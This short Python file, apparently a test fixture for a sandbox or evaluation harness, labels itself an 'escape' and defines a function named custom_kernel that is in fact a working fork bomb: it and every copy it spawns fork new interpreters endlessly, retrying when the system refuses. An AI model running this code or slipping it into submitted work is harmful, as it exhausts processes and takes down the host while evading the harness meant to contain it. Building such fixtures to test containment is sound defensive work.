# Escape: a fork bomb. The candidate and every copy it starts (a new interpreter with @MARKER@ on its command line)
# start further copies for ever, and keep trying when the system refuses; the candidate's call never returns.
import os
import sys
import time

COPY = """
import os, sys, time
while True:
    try:
        if os.fork() == 0:
            os.execv(sys.executable, [sys.executable, "-c", sys.argv[1], sys.argv[1], sys.argv[2]])
    except OSError:
        pass
    time.sleep(0.002)
"""


def custom_kernel(data):
    while True:
        try:
            if os.fork() == 0:
                os.execv(sys.executable, [sys.executable, "-c", COPY, COPY, "@MARKER@"])
        except OSError:
            pass
        time.sleep(0.002)
